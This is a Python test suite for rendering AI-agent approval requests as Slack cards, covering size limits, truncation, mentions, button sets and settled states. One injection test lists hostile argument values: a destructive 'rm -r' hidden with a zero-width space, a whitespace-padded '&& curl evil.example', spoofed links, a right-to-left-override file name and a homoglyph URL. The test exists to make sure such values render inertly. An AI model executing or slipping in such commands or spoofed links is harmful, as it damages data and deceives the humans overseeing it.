"""What is drawn fits Slack, says everything, and offers nothing that was not asked for."""

from __future__ import annotations

from dataclasses import replace
from typing import Literal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from channels.base import Actor, Button, CardField, Form, FormField
from channels.render.inert import visible
from channels.render.measure import cut, utf16_len
from channels.slack import cards
from tests.contracts.harness import an_approval, in_order, settled
from tests.unit.slack.blockkit import checked_message, codes, controls, labels, live, shown, walk

TEXTS = st.text(max_size=200)
WILD = TEXTS | st.sampled_from(
    [
        "x" * 5000,
        "😀" * 3000,
        "\n" * 50,
        "a b " * 2000,
        "\u200b" * 900,
        "\ud83d x",
        '"\\' * 4000,
        "<!channel>",
    ]
)
FIELDS = st.lists(st.builds(CardField, name=TEXTS, value=WILD), max_size=40).map(tuple)
BUTTONS = (
    Button(label="Approve", data="v1:p_1:a", tone="primary"),
    Button(label="Approve for this session", data="v1:p_1:s"),
    Button(label="Edit", data="v1:p_1:e"),
    Button(label="Deny", data="v1:p_1:d", tone="danger"),
    Button(label="Deny with feedback", data="v1:p_1:f", tone="danger"),
)
ADA = Actor("slack", "T1", "U1")
EDIT = Form(data="v1:p_1:e", title="Edit", fields=(FormField(name="amount", label="amount"),))
APPROVING = {"Approve", "Approve for this session", "Edit"}


@given(TEXTS, WILD, FIELDS, WILD, WILD, st.sampled_from(["open", "decided", "expired", "superseded"]), WILD)
def test_every_card_is_one_that_slack_takes(
    title: str, summary: str, fields: tuple[CardField, ...], status: str, who: str, state: str, preview: str
) -> None:
    card = an_approval(
        title=title, summary=summary, fields=fields, status=status, deciders=who, expires=who, state=state,
        buttons=BUTTONS, repeat=True, preview=preview, asks=(ADA,), ask_roles=("S1",),
    )  # fmt: skip
    file = cards.args_file(card)
    for given_file, readable in ((file, True), (file, False), (None, True)):
        drawn = cards.card(card, file=given_file, readable=readable)
        checked_message(drawn)
        assert live(drawn) == []
        mentioning = cards.card(card, file=given_file, readable=readable, mention=True)
        checked_message(mentioning)
        assert [entry["type"] for entry in live(mentioning)] == ["user", "usergroup"]
        assert labels(mentioning["blocks"]) == labels(drawn["blocks"])
        wanted = state == "open" and (file is None or (given_file is not None and readable))
        may_approve = APPROVING & set(labels(drawn["blocks"]))
        if wanted:
            assert may_approve == APPROVING
        elif state != "open" or file is not None:
            assert may_approve == set()


@given(FIELDS, WILD)
def test_every_character_of_the_arguments_and_the_preview_is_on_the_card_or_in_the_file(
    fields: tuple[CardField, ...], preview: str
) -> None:
    card = an_approval(fields=fields, preview=preview)
    file = cards.args_file(card)
    drawn = cards.card(card, file=file)
    told = visible(preview).rstrip("\n") if visible(preview).strip() else ""
    if file is None:
        boxes = [box.rstrip("↵") for box in codes(drawn["blocks"])]
        values = [visible(f.value).rstrip("\n").rstrip("↵") for f in fields if visible(f.value)]
        assert boxes == [*values, *([told.rstrip("↵")] if told else [])]
        return
    content = file.content.decode()
    assert told in content
    for field in fields:
        assert f"{visible(field.name)}:\n{visible(field.value)}" in content
    assert file.sha256 in shown(drawn["blocks"])
    assert f"{file.name}, {file.size:,} bytes" in shown(drawn["blocks"])


def test_a_diff_is_a_box_of_its_own_below_the_arguments() -> None:
    card = an_approval(preview="-20 `EUR`\n+30 <@U1>\n", preview_kind="diff")
    blocks = cards.card(card)["blocks"]
    assert codes(blocks) == ["A-1001", "20", "-20 `EUR`\n+30 <@U1>"]
    assert in_order(shown(blocks), ["amount:", "What it changes:", "-20 `EUR`"])
    boxes = [box for box in walk(blocks) if box.get("type") == "rich_text_preformatted"]
    assert [box.get("language") for box in boxes] == [None, None, "diff"]
    assert live(blocks) == []


def test_a_preview_that_is_too_long_is_cut_in_sight_beside_the_file() -> None:
    card = an_approval(preview="line;\n" * 5_000)
    file = cards.args_file(card)
    assert file is not None and file.content.decode().count("line;") == 5_000
    blocks = cards.card(card, file=file)["blocks"]
    assert codes(blocks)[:2] == ["A-1001", "20"]
    assert codes(blocks)[2].endswith("…") and len(codes(blocks)[2]) > 2_900
    assert "Preview:" in shown(blocks)
    assert labels(cards.card(card, file=file, readable=False)["blocks"]) == ["Deny"]


def test_those_who_are_asked_are_mentioned_once_each_and_at_most_ten() -> None:
    people = [Actor("slack", "T1", f"U{n}") for n in range(8)]
    strangers = [Actor("slack", "", "ada"), Actor("telegram", "", "U1"), Actor("slack", "T1", "C1")]
    groups = ("S1", "admin", "S2", "S3", "S4", "S1")
    card = an_approval(asks=(*people, people[0], *strangers), ask_roles=groups)
    blocks = cards.card(card, mention=True)["blocks"]
    found = [entry.get("user_id") or entry.get("usergroup_id") for entry in live(blocks)]
    assert found == [f"U{n}" for n in range(8)] + ["S1", "S2"]
    assert "(and 2 more, not notified)" in shown(blocks)
    assert live(cards.card(card)["blocks"]) == []


def test_a_card_that_asks_nobody_by_a_known_id_notifies_nobody() -> None:
    card = an_approval(asks=(Actor("slack", "", "ada"),), ask_roles=("administrator",))
    assert cards.card(card, mention=True) == cards.card(card)


def test_long_arguments_show_their_beginnings_beside_the_file() -> None:
    card = an_approval(fields=(CardField(name="script", value="step; " * 5000),))
    file = cards.args_file(card)
    assert file is not None
    assert file.name == "args-K7M2.txt"
    drawn = cards.card(card, file=file)
    [box] = codes(drawn["blocks"])
    assert box.startswith("step; step; ") and box.endswith("…")
    assert 2900 <= utf16_len(box) <= 3000
    assert labels(drawn["blocks"]) == ["Approve", "Deny"]


@pytest.mark.parametrize("with_file", [True, False])
def test_a_card_whose_arguments_nobody_can_read_offers_only_what_refuses(with_file: bool) -> None:
    card = an_approval(
        fields=(CardField(name="script", value="x " * 20_000),), buttons=BUTTONS, forms=(EDIT,)
    )
    drawn = cards.card(card, file=cards.args_file(card) if with_file else None, readable=False)
    assert labels(drawn["blocks"]) == ["Deny", "Deny with feedback"]
    words = shown(drawn["blocks"])
    assert "could not be delivered here, so this cannot be approved from this message" in words
    assert "K7M2" not in words  # /approve K7M2 would approve what nobody has read


def test_a_card_that_fits_needs_no_file_and_stays_readable_without_one() -> None:
    assert cards.args_file(an_approval()) is None
    assert labels(cards.card(an_approval())["blocks"]) == ["Approve", "Deny"]


@pytest.mark.parametrize(
    "value",
    [
        "ls` <https://evil.example/ok|Open the approval page> ```\n*Signed off by the owner*",
        "<!channel> <@U0AAAAAAA> <!subteam^S0AAA> @here #general :white_check_mark: [ok](https://evil.example)",
        "rm -r ~/\u200bprojects; https://safe.example/\u202etxt.exe",
        f"true{' ' * 400}&& curl evil.example",
        "https://gith\u0443b.example",
    ],
)
def test_c085_arguments_are_inert_and_nothing_in_them_is_hidden(value: str) -> None:
    drawn = cards.card(an_approval(fields=(CardField(name="command", value=value),)))
    checked_message(drawn)
    assert live(drawn) == []
    assert codes(drawn["blocks"]) == [visible(value)]
    assert not {"\u200b", "\u202e"} & set(shown(drawn["blocks"]))


def test_c085_a_title_a_summary_and_names_cannot_mention_link_or_draw_pictures() -> None:
    bad = "<@U1> <!here> <https://evil.example|ok> *b* :tada:"
    card = an_approval(
        title=bad, summary=bad, deciders=bad, expires=bad, fields=(CardField(name=bad, value=bad),)
    )
    drawn = cards.card(card)
    assert live(drawn) == []
    assert drawn["text"].startswith("&lt;@U1&gt; &lt;!here&gt; &lt;https://evil.example|ok&gt;")
    assert all(
        entry.get("emoji", False) is False for entry in drawn["blocks"][0].values() if isinstance(entry, dict)
    )


def test_a_field_cannot_imitate_another_field() -> None:
    fields = (CardField(name="note\namount", value="x\n\namount:\n1"), CardField(name="amount", value="900"))
    blocks = cards.card(an_approval(fields=fields))["blocks"]
    bold = [
        run["text"]
        for block in blocks if block["type"] == "rich_text"
        for part in block["elements"]
        for run in part["elements"] if run.get("style") == {"bold": True}
    ]  # fmt: skip
    assert bold == ["note ↵ amount:", "amount:"]
    assert codes(blocks) == ["x\n\namount:\n1", "900"]


def test_line_ends_behind_an_argument_are_seen_and_emptiness_is_no_box() -> None:
    fields = (CardField(name="text", value="x\n\n"), CardField(name="none", value=""))
    blocks = cards.card(an_approval(fields=fields))["blocks"]
    assert codes(blocks) == ["x↵↵"]
    assert "(empty)" in shown(blocks)


def test_a_name_that_is_too_long_is_read_in_the_file_before_anything_runs() -> None:
    card = an_approval(fields=(CardField(name="n" * 20_000, value="1"),))
    file = cards.args_file(card)
    assert file is not None and "n" * 20_000 in file.content.decode()
    assert labels(cards.card(card, file=file, readable=False)["blocks"]) == ["Deny"]
    whole = an_approval(fields=(CardField(name="n" * 5_000, value="1"),))
    assert "n" * 5_000 in shown(cards.card(whole)["blocks"])


def test_an_open_card_says_who_may_decide_until_when_and_which_request_it_is() -> None:
    foot = shown(cards.card(an_approval())["blocks"][-2:])
    assert foot.split("\n") == [
        "Who may decide: Ada",
        "Expires: tomorrow at noon",
        "Code: K7M2",
        "Request p_abcdefghijklmnopqrst",
    ]


def test_a_long_title_is_cut_visibly_in_the_header_and_whole_below_it() -> None:
    title = "Approve " + "word " * 60
    [head, *rest] = cards.card(an_approval(title=title))["blocks"]
    assert head["text"]["text"].endswith("…")
    assert title.strip() in shown(rest)


@pytest.mark.parametrize("state", ["decided", "expired", "superseded"])
def test_a_settled_card_keeps_its_words_under_its_status_and_has_no_controls_and_no_code(
    state: Literal["decided", "expired", "superseded"],
) -> None:
    drawn = cards.card(replace(an_approval(), state=state, status="Closed by Ada"))  # buttons still in it
    words = shown(drawn["blocks"]).split("\n")
    assert words[:3] == ["▪️ Approve issue_refund?", "Closed by Ada", "The agent wants to pay money back."]
    assert {"A-1001", "20", "Request p_abcdefghijklmnopqrst"} <= set(words)
    assert controls(drawn["blocks"]) == []
    assert not any("K7M2" in line for line in words)
    assert drawn["text"] == "Approve issue_refund? Closed by Ada"


def test_a_settled_card_that_was_too_long_gives_the_hash_of_what_it_shortens() -> None:
    card = settled(an_approval(fields=(CardField(name="s", value="x " * 20_000),)), "Approved by Ada")
    file = cards.args_file(card)
    assert file is not None
    words = shown(cards.card(card, file=file)["blocks"])
    assert f"shortened here; in full: {file.size:,} bytes" in words
    assert file.sha256 in words


def test_a_button_of_a_form_is_known_by_its_action_id_and_carries_the_same_data() -> None:
    card = an_approval(buttons=BUTTONS, forms=(EDIT,))
    found = [(e["action_id"], e["value"], e.get("style")) for e in controls(cards.card(card)["blocks"])]
    assert found == [
        ("press:2:v1:p_1:a", "v1:p_1:a", "primary"),
        ("press:3:v1:p_1:s", "v1:p_1:s", None),
        ("form:4:v1:p_1:e", "v1:p_1:e", None),
        ("press:5:v1:p_1:d", "v1:p_1:d", "danger"),
        ("press:6:v1:p_1:f", "v1:p_1:f", "danger"),
    ]


def test_the_repeat_mark_of_a_card_is_drawn() -> None:
    assert "(a repeat: the card may already be above)" in shown(
        cards.card(replace(an_approval(), repeat=True))["blocks"]
    )


def test_the_sentence_of_a_card_is_what_a_notification_says() -> None:
    assert cards.card(an_approval())["text"] == "Approve issue_refund? The agent wants to pay money back."


@pytest.mark.parametrize("limit", [2, 10, 150])
@given(text=st.text(max_size=200))
def test_a_cut_keeps_the_limit_and_is_seen(limit: int, text: str) -> None:
    short = cut(text, limit)
    assert utf16_len(short) <= limit
    assert short == text or (short.endswith("…") and text.startswith(short[:-1]))
